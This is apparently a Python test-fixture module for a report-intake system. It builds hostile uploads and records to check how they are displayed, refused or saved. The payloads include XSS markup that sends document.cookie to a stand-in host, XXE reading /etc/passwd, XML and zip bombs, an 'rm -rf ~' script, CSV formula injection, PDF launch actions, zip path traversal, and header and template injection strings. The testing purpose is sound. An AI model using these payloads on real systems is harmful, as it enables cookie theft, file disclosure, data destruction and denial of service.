"""Hostile files and records, each with what becomes of it: shown, refused by name, or only saved.

Rules: made here, byte by byte; none does harm by itself. What would run says so in `pwned`, and
what would be loaded is at `evil.test`, so that a browser shows whether either happened.
"""

import gzip
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import msgspec

from intake.core.entry import Entry, ReportBody
from intake.core.evidence import Evidence
from intake.core.report import Answer
from tests.crypto import entries
from tests.media.movies import box, full, heic, movie
from tests.media.pictures import chunk, jpeg, png, riff, webp
from tests.media.samples import archive

MARKUP = (
    b"<script>window.pwned=1;try{parent.pwned=1;top.pwned=1}catch(e){}alert(1);"
    b"fetch('https://evil.test/?'+document.cookie)</script>"
    b"<img src=https://evil.test/x.png onerror=alert(1)><svg onload=alert(1)>"
    b"<meta http-equiv=refresh content='0;url=https://evil.test/'>"
    b"<iframe srcdoc='<script>top.location=`https://evil.test/`</script>'></iframe>"
    b"<form action=https://evil.test/><input autofocus onfocus=alert(1)></form>"
)
HTML = b"<!doctype html><html><body>" + MARKUP + b"</body></html>"
SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>top.pwned=1</script>'
    b'<image href="https://evil.test/x.png"/><foreignObject>' + MARKUP + b"</foreignObject></svg>"
)
UNKNOWN = "application/octet-stream"
PDF = "application/pdf"
ZIP = "application/zip"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


@dataclass(frozen=True, repr=False)
class Hostile:
    """A file, what is said of it, what it truly is, and what becomes of it.

    `shown` is a way of `showing.Way`, or "refused" for a picture that is not drawn. `lies` where
    type or name say something else.
    """

    label: str
    name: str
    type: str
    data: bytes
    true: str
    shown: str
    lies: bool = False


def every() -> list[Hostile]:
    """Return all of them."""
    return [*_texts(), *_liars(), *_polyglots(), *_bombs(), *_pictures(), *_played(), *_saved(),
            *_names()]  # fmt: skip


def _text(label: str, name: str, kind: str, data: bytes, *, lies: bool = False) -> Hostile:
    return Hostile(label, name, kind, data, "text/plain", "text", lies)


def _texts() -> Iterator[Hostile]:
    yield _text("html", "page.html", "text/html", HTML)
    yield _text("html said to be text", "notes.txt", "text/plain", HTML)
    yield _text("html with a mark", "marked.html", "text/html", b"\xef\xbb\xbf" + HTML)
    yield _text("html in utf-16", "wide.html", "text/html", HTML.decode().encode("utf-16"))
    wide = b"\xfe\xff" + HTML.decode().encode("utf-16-be")
    yield _text("html in utf-16, the other way", "wide.txt", "text/plain", wide)
    yield _text("html in utf-7", "seven.txt", "text/plain", HTML.decode().encode("utf-7"))
    yield _text("xhtml", "page.xhtml", "application/xhtml+xml",
                b'<html xmlns="http://www.w3.org/1999/xhtml">' + MARKUP + b"</html>")  # fmt: skip
    yield _text("svg", "drawing.svg", "image/svg+xml", SVG)
    steps = b"".join(b'<!ENTITY e%d "%s">' % (n, b"&e%d;" % (n - 1) * 10) for n in range(1, 10))
    bomb = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">' + steps + b"]><x>&e9;</x>"
    yield _text("xml bomb", "laughs.xml", "text/xml", bomb)
    outside = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    yield _text("xml that reads a file", "reads.xml", "application/xml", outside)
    styled = b'<?xml-stylesheet type="text/xsl" href="https://evil.test/x.xsl"?><x/>'
    yield _text("xml with a style", "styled.xml", "text/xml", styled)
    yield _text("script", "run.mjs", "text/javascript", b"window.pwned=1;alert(1)\n")
    yield _text("json", "answer.json", "application/json", b'{"__proto__":{"pwned":1}}')
    yield _text("style", "look.css", "text/css", b"@import url(https://evil.test/x.css);")
    yield _text("shell script", "tidy.sh", "text/x-shellscript", b"#!/bin/sh\nrm -rf ~\n")
    eicar = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"NO-TEST-VIRUS-BUT-LIKE-ONE!$H+H*"
    yield _text("like a test virus", "virus.txt", "text/plain", eicar)
    yield _text("escape codes", "log.txt", "text/plain", "\u009b31m\x7f red\n".encode() * 50)
    yield _text("turned order", "turned.txt", "text/plain", "\u202eexe.\u2066gpj\n".encode())
    yield _text("invisible", "tags.txt", "text/plain", "\u200b\ufeff\U000e0041a\n".encode() * 99)
    yield _text("marks on marks", "zalgo.txt", "text/plain", ("a" + "\u0301" * 5000).encode() * 9)
    yield _text("one long line", "line.txt", "text/plain", b"<b>" * 400_000)
    yield _text("control codes far behind", "far.txt", "text/plain",
                b"a" * 5000 + bytes(range(32)) + MARKUP)  # fmt: skip
    yield _text("no text far behind", "broken.txt", "text/plain", b"a" * 5000 + b"\xff\xfe" * 99)
    yield _text("playlist", "list.m3u8", "application/vnd.apple.mpegurl",
                b"#EXTM3U\n#EXTINF:1,\nhttps://evil.test/x.ts\n")  # fmt: skip
    mhtml = b"MIME-Version: 1.0\nContent-Type: text/html\n\n" + HTML
    yield _text("saved page", "page.mht", "multipart/related", mhtml)
    yield _text("csv that calculates", "sums.csv", "text/csv", b"=cmd|' /C calc'!A0,1\n")


def _liars() -> Iterator[Hostile]:
    for kind, name in (
        ("image/jpeg", "photo.jpg"),
        ("video/mp4", "film.mp4"),
        ("audio/mpeg", "voice.mp3"),
        (PDF, "letter.pdf"),
        ("video/webm", "film.webm"),
    ):
        yield _text(f"html said to be {kind}", name, kind, HTML, lies=True)
    yield _text("svg said to be png", "drawing.png", "image/png", SVG, lies=True)
    yield _text("playlist said to be a film", "list.mp4", "video/mp4",
                b"#EXTM3U\n#EXTINF:1,\nhttps://evil.test/x.ts\n", lies=True)  # fmt: skip
    yield Hostile("picture said to be text", "a.txt", "text/plain", png(), "image/png", "pixels",
                  lies=True)  # fmt: skip
    yield Hostile("picture said to be a page", "a.html", "text/html", jpeg(), "image/jpeg",
                  "pixels", lies=True)  # fmt: skip
    yield Hostile("picture named as a program", "a.jpg.exe", "image/jpeg", jpeg(), "image/jpeg",
                  "pixels", lies=True)  # fmt: skip
    yield Hostile("png said to be jpeg", "a.jpg", "image/jpeg", png(), "image/png", "pixels",
                  lies=True)  # fmt: skip
    for label, start in (
        ("windows program", b"MZ\x90\0\3\0\0\0"),
        ("linux program", b"\x7fELF\2\1\1\0"),
        ("icon", b"\0\0\1\0\1\0\1\1\0\0\1\0\x20\0"),
        ("tiff", b"II*\0\x08\0\0\0"),
        ("bitmap", b"BM\x46\0\0\0\0\0\0\0"),
        ("photoshop", b"8BPS\0\1\0\0"),
        ("flash", b"FWS\x09\0\0\0\0"),
        ("postscript in windows", b"\xc5\xd0\xd3\xc6\0\0"),
        ("windows link", b"L\0\0\0\1\x14\2\0"),
    ):
        yield Hostile(f"{label} said to be a picture", "photo.jpg", "image/jpeg",
                      start + MARKUP + bytes(64), UNKNOWN, "download", lies=True)  # fmt: skip
    jar = archive({"META-INF/MANIFEST.MF": b"Main-Class: Evil\n", "Evil.class": b"\xca\xfe"})
    yield Hostile("java said to be a picture", "photo.jpg", "image/jpeg", jar, ZIP, "download",
                  lies=True)  # fmt: skip


def _polyglots() -> Iterator[Hostile]:
    script = b"GIF89a/*\0\0\0\0\0*/=1;window.pwned=1;alert(1)//" + MARKUP
    yield Hostile("gif and script", "a.gif", "image/gif", script, "image/gif", "refused")
    both = HTML[:200] + b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>\n"
    yield Hostile("page and pdf", "a.pdf", PDF, both, PDF, "download")
    tail = png(tail=HTML)
    yield Hostile("png and page", "a.png", "image/png", tail, "image/png", "pixels")
    words = png((chunk(b"tEXt", b"Comment\0" + HTML),))
    yield Hostile("page within png", "b.png", "image/png", words, "image/png", "pixels")
    comment = struct.pack(">BBH", 0xFF, 0xFE, len(HTML) + 2) + HTML
    yield Hostile("page within jpeg", "a.jpg", "image/jpeg", jpeg((comment,)), "image/jpeg",
                  "pixels")  # fmt: skip
    zipped = jpeg(tail=archive({"x.html": HTML}))
    yield Hostile("jpeg and archive", "b.jpg", "image/jpeg", zipped, "image/jpeg", "pixels")
    yield Hostile("film and page", "a.mp4", "video/mp4",
                  movie() + HTML, "video/mp4", "film")  # fmt: skip
    yield Hostile("page in the box of a film", "b.mp4", "video/mp4",
                  box(b"ftyp", b"isom", bytes(4), b"isom") + HTML, "video/mp4", "film")  # fmt: skip
    yield Hostile("page in the box of a webm", "c.webm", "video/webm",
                  b"\x1aE\xdf\xa3\x8fB\x82\x84webm" + HTML, "video/webm", "film")  # fmt: skip
    yield Hostile("page in a wave", "a.wav", "audio/wav",
                  riff(b"WAVE", [(b"LIST", HTML)]), "audio/wav", "sound")  # fmt: skip
    yield Hostile("page behind a tag", "a.mp3", "audio/mpeg",
                  b"ID3\3\0\0\0\0\0\0" + HTML, "audio/mpeg", "sound")  # fmt: skip
    yield Hostile("page behind ogg", "a.ogg", "audio/ogg", b"OggS\0\2" + HTML, "audio/ogg",
                  "sound")  # fmt: skip


def _bombs() -> Iterator[Hostile]:
    yield Hostile("zip bomb", "a.zip", ZIP, archive({"zeros": bytes(20 << 20)}), ZIP, "download")
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        for name in ("../../../.bashrc", "/etc/passwd", "C:\\x.exe", "a\0b", "x" * 60_000):
            made.writestr(zipfile.ZipInfo(name), b"evil")
    yield Hostile("zip that climbs", "b.zip", ZIP, out.getvalue(), ZIP, "download")
    head = struct.pack(">IIBBBBB", 12_000, 12_000, 1, 0, 0, 0, 0)
    body = zlib.compress(bytes(1501 * 12_000), 9)
    start = b"\x89PNG\r\n\x1a\n"
    bomb = start + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")
    yield Hostile("png bomb", "a.png", "image/png", bomb, "image/png", "refused")
    note = chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 << 20), 9))
    yield Hostile("png with a bomb of words", "b.png", "image/png", png((note,)), "image/png",
                  "refused")  # fmt: skip
    profile = chunk(b"iCCP", b"a\0\0" + zlib.compress(bytes(80 << 20), 9))
    yield Hostile("png with a bomb of colours", "c.png", "image/png", png((profile,)),
                  "image/png", "refused")  # fmt: skip
    yield Hostile("svg in gzip", "a.svgz", "image/svg+xml", gzip.compress(SVG, mtime=0), UNKNOWN,
                  "download")  # fmt: skip
    yield Hostile("gif of ten thousand frames", "a.gif", "image/gif", _frames(10_000),
                  "image/gif", "pixels")  # fmt: skip
    yield Hostile("gif of four billion pixels", "b.gif", "image/gif",
                  b"GIF89a\xff\xff\xff\xff" + _frames(1)[10:], "image/gif", "refused")  # fmt: skip
    yield Hostile("many marks of a jpeg", "a.jpg", "image/jpeg",
                  jpeg((b"\xff\xe5\0\3a",) * 20_000), "image/jpeg", "pixels")  # fmt: skip


def _frames(count: int) -> bytes:
    """Return a GIF of 1 by 1 points."""
    frame = b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"
    palette = b"\0\0\0\xff\xff\xff"
    return b"GIF89a\1\0\1\0\x80\0\0" + palette + frame * count + b"\x3b"


def _pictures() -> Iterator[Hostile]:
    good = png()
    wide = good[:16] + struct.pack(">II", 2**31 - 1, 2**31 - 1) + good[24:]
    none = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 0, 0, 8, 0, 0, 0, 0))
    loud = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 2**31 - 1, b"IHDR") + bytes(99)
    for label, data in (
        ("png with a bad sum", good[:40] + b"\xff" + good[41:]),
        ("png of huge sides", wide),
        ("png of no sides", none + good[33:]),
        ("png cut off", good[:45]),
        ("png with an endless piece", loud),
        ("png of a mark alone", good[:8]),
    ):
        yield Hostile(label, "a.png", "image/png", data, "image/png", "refused")
    photo = jpeg()
    at = photo.index(b"\xff\xc0")
    large = photo[: at + 5] + b"\xff\xff\xff\xff" + photo[at + 9 :]
    for label, data in (
        ("jpeg cut off", photo[:-40]),
        ("jpeg of huge sides", large),
        ("jpeg of a mark alone", b"\xff\xd8\xff"),
        ("jpeg of noise", b"\xff\xd8\xff\xe0" + bytes(range(256)) * 9),
    ):
        yield Hostile(label, "a.jpg", "image/jpeg", data, "image/jpeg", "refused")
    canvas = b"\x10\0\0\0" + b"\xff\xff\xff" * 2
    for label, data in (
        ("webp of the largest canvas", riff(b"WEBP", [(b"VP8X", canvas), (b"VP8L", b"\x2f")])),
        ("webp of noise", riff(b"WEBP", [(b"VP8 ", bytes(range(200)))])),
        ("webp of a mark alone", b"RIFF\xff\xff\xff\xffWEBP"),
        ("webp cut off", webp()[:20]),
    ):
        yield Hostile(label, "a.webp", "image/webp", data, "image/webp", "refused")
    noise = b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff\x2c\0\0\0\0\1\0\1\0\0\x0c\xff" + bytes(99)
    yield Hostile("gif of noise", "a.gif", "image/gif", noise, "image/gif", "refused")


def _played() -> Iterator[Hostile]:
    outside = full(b"dref", struct.pack(">I", 1), full(b"url ", b"https://evil.test/x.mp4\0"))
    film = movie().replace(b"alis", b"url ", 1) + outside
    yield Hostile("film that names another", "a.mp4", "video/mp4", film, "video/mp4", "film")
    deep = b""
    for _ in range(2000):
        deep = box(b"moov", deep)
    yield Hostile("film of boxes in boxes", "b.mp4", "video/mp4",
                  box(b"ftyp", b"isom", bytes(4)) + deep, "video/mp4", "film")  # fmt: skip
    longer = riff(b"WAVE", [(b"fmt ", struct.pack("<HHIIHH", 1, 1, 8000, 8000, 1, 8))])
    yield Hostile("wave of four gigabytes", "a.wav", "audio/wav",
                  longer + b"data\xff\xff\xff\xff" + bytes(999), "audio/wav", "sound")  # fmt: skip
    link = b"APIC" + struct.pack(">IH", 40, 0) + b"\0-->\0\3\0https://evil.test/cover.png".ljust(40)
    tag = b"ID3\3\0\0\0\0" + bytes((len(link) >> 7, len(link) & 127)) + link
    yield Hostile("sound with a cover elsewhere", "a.mp3", "audio/mpeg",
                  tag + b"\xff\xfb\x90\0" + bytes(400), "audio/mpeg", "sound")  # fmt: skip
    yield Hostile("film that is none", "a.mov", "video/quicktime",
                  b"\0\0\0\x08wide" + bytes(200), "video/quicktime", "film")  # fmt: skip


def _saved() -> Iterator[Hostile]:
    js = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('//evil'"
    yield Hostile("pdf with a script", "a.pdf", PDF, js + b"))>>>>\n%%EOF", PDF, "download")
    launch = b"%PDF-1.7\n1 0 obj<</OpenAction<</S/Launch/F(calc.exe)>>>>\n%%EOF"
    yield Hostile("pdf that starts a program", "b.pdf", PDF, launch, PDF, "download")
    macro = archive({"word/document.xml": b"<w/>", "word/vbaProject.bin": b"Shell calc"})
    yield Hostile("document with a macro", "a.docx", DOCX, macro, DOCX, "download")
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"V\0B\0A\0" * 99
    yield Hostile("old document with a macro", "a.doc", "application/msword", ole,
                  "application/x-ole-storage", "download")  # fmt: skip
    yield Hostile("heic", "a.heic", "image/heic", heic(), "image/heic", "download")
    yield Hostile("avif of noise", "a.avif", "image/avif",
                  box(b"ftyp", b"avif", bytes(4)) + bytes(99), "image/avif",
                  "download")  # fmt: skip
    yield Hostile("page in a matroska", "a.mkv", "video/x-matroska",
                  b"\x1aE\xdf\xa3\x8fB\x82\x88matroska" + HTML, "video/x-matroska",
                  "download")  # fmt: skip
    yield Hostile("nothing", "empty.txt", "text/plain", b"", UNKNOWN, "download")
    yield Hostile("a nul", "nul.txt", "text/plain", b"\0", UNKNOWN, "download")
    late = HTML + b"\0"
    yield Hostile("page with a nul", "page.html", "text/html", late, UNKNOWN, "download")


def _names() -> Iterator[Hostile]:
    for number, name in enumerate(
        (
            '"><script>window.pwned=1;alert(1)<!--.txt',
            "' onmouseover='alert(1)' x='.txt",
            "javascript:alert(1)",
            "{{ 7 * 7 }}{% include 'x' %}.txt",
            "..\\..\\windows\\system32\\x.txt",
            "CON.txt",
            "a%00b%0d%0aSet-Cookie: a=b.txt",
            "photo.jpg" + "." * 60 + "txt",
            "&lt;script&gt;alert(1)&lt;&sol;script&gt;.txt",
            ".htaccess.txt",
            "\N{CYRILLIC SMALL LETTER A}\N{FULLWIDTH SOLIDUS}\u0301\u0301b.txt",
            "n" * 196 + ".txt",
        )
    ):
        yield _text(f"name {number}", name, "text/plain", b"words in a file\n")


@dataclass(frozen=True, repr=False)
class Record:
    """A report that opens, or is set aside for a `reason` that holds this word."""

    label: str
    entry: Entry
    reason: str = ""


TURNED = "\u202egpj.exe\u2066\u2069 \u200f\u061c"
STEERING = "\x1b[2J\x1b]0;pwned\x07\x9b31m\r\b\x7f\0"


def records() -> list[Record]:
    """Return reports that are hostile in their words; each in a case of its own."""
    return [*_worded(), *_named()]


def _worded() -> Iterator[Record]:
    script = HTML.decode()
    fields: tuple[tuple[str, dict[str, Answer]], ...] = (
        ("script in the account", {"account": script}),
        (
            "script in every answer",
            dict.fromkeys(("account", "place", "date", "custody", "agency", "urgency"), script),
        ),
        ("script as a question", {script: script, "account": "words"}),
        ("script as a choice", {"account": "words", "agency": (script, script)}),
        ("turned order in a report", {"account": TURNED, "place": TURNED}),
        ("what steers a terminal", {"account": STEERING, "place": STEERING}),
        ("marks on marks in a report", {"account": "e" + "\u0301" * 20_000}),
        ("a huge field", {"account": "<b>" * 150_000}),
        ("one long word", {"account": "a" * 400_000}),
        ("many lines", {"account": "\n" * 200_000}),
        ("many questions", {f"question{n}": script[:40] for n in range(3000)}),
        ("many choices", {"account": "words", "agency": tuple(str(n) for n in range(20_000))}),
        ("a template", {"account": "{{ config }}{% for x in y %}{{ x }}{% endfor %}${7*7}"}),
        ("an address", {"account": "javascript:alert(1) https://evil.test/ data:text/html,x"}),
        ("a search", {"account": "a\" OR 1=1 -- * NEAR( ^ : ' ) {x}"}),
        ("nothing answered", {}),
    )
    for number, (label, answers) in enumerate(fields):
        yield Record(label, _report(number, answers))
    first = _report(500, {"account": "words"})
    assert isinstance(first.body, ReportBody)
    bodies: tuple[tuple[str, dict[str, object]], ...] = (
        ("script as a language", {"language": script}),
        ("script as a version", {"version": script, "digest": script}),
        ("script as a contact", {"contact": script + TURNED + STEERING}),
        ("script as a key", {"message_key": script}),
        ("a way back that is none", {"reply_to": script.encode()}),
    )
    for number, (label, change) in enumerate(bodies, 501):
        body = msgspec.structs.replace(first.body, **change)
        yield Record(label, _report(number, body=body))


def _named() -> Iterator[Record]:
    """Yield reports that name a file as no form does."""
    good = Evidence("0" * 64, "0" * 32, "AGE-SECRET-KEY-PQ-1" + "Q" * 58, 9, "a", "", "a/b")
    names: tuple[tuple[str, dict[str, object]], ...] = (
        ("a file with turned order", {"name": "photo\u202egpj.exe"}),
        ("a file with a path", {"name": "../../etc/passwd"}),
        ("a file of two lines", {"name": "a\r\nSet-Cookie: a=b"}),
        ("a file without a name", {"name": ""}),
        ("a file of a long name", {"name": "a" * 100_000}),
        ("a file of no type", {"type": "text/html<script>"}),
        ("a file of no key", {"key": "AGE-SECRET-KEY-1" + "Q" * 58}),
        ("a file of no id", {"id": "../../x"}),
        ("a file of no digest", {"digest": "x"}),
        ("a file of negative length", {"length": -1}),
        ("a file too long to be", {"length": 1 << 62}),
        ("a file that is its own copy", {"of": "0" * 32}),
    )
    first = _report(600, {"account": "words"})
    assert isinstance(first.body, ReportBody)
    for number, (label, change) in enumerate(names, 601):
        told = msgspec.structs.replace(good, **change)
        body = msgspec.structs.replace(first.body, evidence=(told,))
        yield Record(label, _report(number, body=body), "file")
    body = msgspec.structs.replace(first.body, evidence=(good, good))
    yield Record("a file named twice", _report(700, body=body), "file")


def _report(
    number: int, answers: dict[str, Answer] | None = None, body: ReportBody | None = None
) -> Entry:
    """Return a report in a case of its own."""
    entry = entries.report()
    assert isinstance(entry.body, ReportBody)
    kept = body or msgspec.structs.replace(entry.body, answers=answers or {})
    names = {"case": f"{number:032x}", "id": f"{number + 10_000:032x}"}
    return msgspec.structs.replace(entry, body=kept, **names)
